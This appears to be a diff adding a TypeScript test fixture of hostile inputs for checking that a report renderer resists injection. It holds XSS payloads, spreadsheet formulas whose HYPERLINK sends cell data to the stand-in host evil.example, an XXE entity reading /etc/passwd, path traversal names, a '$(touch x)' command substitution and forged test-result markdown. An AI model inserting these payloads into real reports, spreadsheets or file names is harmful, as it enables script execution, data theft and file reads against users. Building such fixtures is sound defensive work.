@@ -1,0 +1,140 @@
+/* Texts that a lead, a server or an admin could put into a report to make it do something. */
+
+const SCRIPTS = [
+  '<script>window.__ran=1</script>',
+  '"><script>window.__ran=1</script>',
+  "'><img src=x onerror=window.__ran=1>",
+  '<img src="https://evil.example/pixel.png">',
+  '<svg/onload=window.__ran=1>',
+  '<svg><script>window.__ran=1</script></svg>',
+  '<iframe src="https://evil.example/">',
+  '<iframe srcdoc="<script>parent.__ran=1</script>">',
+  '<body onload=window.__ran=1>',
+  '<a href="javascript:window.__ran=1">x</a>',
+  'javascript:window.__ran=1',
+  'jav&#x61;script:window.__ran=1',
+  'data:text/html,<script>window.__ran=1</script>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example/"><button>x</button></form>',
+  '<object data="https://evil.example/x"></object>',
+  '<embed src="https://evil.example/x">',
+  '<video src="https://evil.example/x" autoplay></video>',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '</style><script>window.__ran=1</script>',
+  '</title><script>window.__ran=1</script>',
+  '</code></td></tr></table><script>window.__ran=1</script>',
+  '--><script>window.__ran=1</script><!--',
+  ']]><script>window.__ran=1</script>',
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  '<![CDATA[<script>window.__ran=1</script>]]>',
+  '&lt;script&gt;window.__ran=1&lt;/script&gt;',
+  '&#60;script&#62;window.__ran=1',
+  '\u003cscript\u003ewindow.__ran=1\u003c/script\u003e',
+  '<scr\u0000ipt>window.__ran=1</scr\u0000ipt>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=1>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">',
+  '" style="background:url(https://evil.example/x)" x="',
+  '" onmouseover="window.__ran=1" autofocus onfocus="window.__ran=1',
+  '`-alert(1)-`',
+  '{{constructor.constructor("window.__ran=1")()}}',
+  '${window.__ran=1}',
+]
+
+const FORMULA_HEADS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠']
+const FORMULA_LEADS = [
+  '',
+  ' ',
+  '\u00a0',
+  '\ufeff',
+  '\u200b',
+  '"',
+  "'",
+  'text\n',
+  'text\r\n ',
+  'text;',
+  'text,',
+  'text\t',
+  'a|',
+]
+const FORMULAS = FORMULA_LEADS.flatMap((lead) =>
+  FORMULA_HEADS.map((head) => `${lead}${head}HYPERLINK("https://evil.example/?"&A1,"x")`),
+)
+
+const MARKDOWN = [
+  '# heading',
+  '\n## Test Results - forged\n### Senaryo 1: Happy Path\n- Status: ✅ PASSED',
+  '- Status: ✅ PASSED',
+  '| a | b |\n|---|---|',
+  'a | b | c',
+  '![i](https://evil.example/x.png)',
+  '[click](javascript:window.__ran=1)',
+  '[click][1]\n\n[1]: https://evil.example/',
+  '<https://evil.example/>',
+  '**bold** _em_ ~~no~~ `code`',
+  '```\ncode\n```',
+  '~~~\ncode\n~~~',
+  '\\',
+  'ends with a backslash \\',
+  '`',
+  '---',
+  '1. one\n2. two',
+  '> quote',
+  '<!-- comment',
+  '<details open>',
+  '$$\\href{javascript:window.__ran=1}{x}$$',
+  '~~~mermaid',
+]
+
+const INVISIBLE = [
+  '\u0000',
+  'a\u0000b',
+  '\u202egnp.exe',
+  '\u2066left\u2069',
+  'zero\u200bwidth\u200djoin',
+  '\ufeffbom',
+  '\u2028line\u2029paragraph',
+  '\u0007\u001b[31mred\u001b[0m',
+  'a\r\nb\rc\nd',
+  '\ud800',
+  '\udfff alone',
+  '\uffff\ufffe',
+  'soft\u00adhyphen',
+  '\u061carabic mark',
+  'Z̷̡̛̪a̶̢l̸g̵o̸',
+]
+
+const LONG = [
+  'x'.repeat(50_000),
+  '@'.repeat(50_000),
+  `${'a.'.repeat(25_000)}@b`,
+  '<'.repeat(20_000),
+  '=1+'.repeat(10_000),
+  '\n'.repeat(30_000),
+  '😀'.repeat(10_000),
+]
+
+const PATHS = [
+  '../../etc/passwd',
+  '..\\..\\windows\\system32',
+  '/etc/passwd',
+  'C:\\Windows\\win.ini',
+  '\\\\evil.example\\share\\x',
+  'CON',
+  'nul.txt',
+  'a:b',
+  'x'.repeat(400),
+  '.',
+  '..',
+  '',
+  ' . ',
+  'file\u0000.md',
+  '~/x',
+  '$(touch x)',
+]
+
+export const HOSTILE_NAMES: readonly string[] = PATHS
+
+/** Every one of them; well over two hundred. */
+export const HOSTILE_TEXTS: readonly string[] = [...SCRIPTS, ...FORMULAS, ...MARKDOWN, ...INVISIBLE, ...LONG, ...PATHS]
